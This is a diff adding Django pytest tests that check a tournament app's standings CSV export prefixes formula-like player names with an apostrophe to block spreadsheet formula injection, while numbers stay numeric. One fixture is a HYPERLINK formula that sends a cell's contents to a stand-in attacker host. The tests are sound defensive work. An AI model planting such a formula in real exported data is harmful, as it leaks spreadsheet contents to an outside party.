@@ -1,0 +1,48 @@
+"""standings.csv is opened in spreadsheets: a player name that starts like a formula is written
+with a leading apostrophe (OWASP "CSV injection"), numbers stay numbers."""
+
+import csv
+import io
+
+import pytest
+
+from tests.tournaments.factories import PlayerFactory
+from tests.tournaments.helpers import play_all, tournament_running
+from tournaments.selectors import spreadsheet_safe
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+NAMES = [HYPERLINK, "-1+2", "+cmd", "@SUM(A1:A9)"]
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        ("-1+2", "'-1+2"),
+        ("+1", "'+1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Ana-Marija", "Ana-Marija"),
+        ("", ""),
+        (-3, -3),
+        (-1.5, -1.5),
+        (None, None),
+    ],
+)
+def test_spreadsheet_safe_prefixes_only_formula_like_text(value, written):
+    assert spreadsheet_safe(value) == written
+
+
+@pytest.mark.django_db
+def test_standings_csv_neutralises_formula_names_and_keeps_negative_numbers(org_api):
+    players = [PlayerFactory(display_name=name, rating=1800.0 - i) for i, name in enumerate(NAMES)]
+    pk = tournament_running(org_api, players, format="single_elimination")["id"]
+    play_all(org_api, pk)
+
+    response = org_api.get("tournaments:standing-csv", pk=pk)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert sorted(row["player"] for row in rows) == sorted("'" + name for name in NAMES)
+    diffs = [row["point_diff"] for row in rows]
+    assert any(diff.startswith("-") for diff in diffs), diffs  # a loser's negative difference
+    assert all(diff.lstrip("-").isdigit() for diff in diffs), diffs  # no apostrophe on numbers
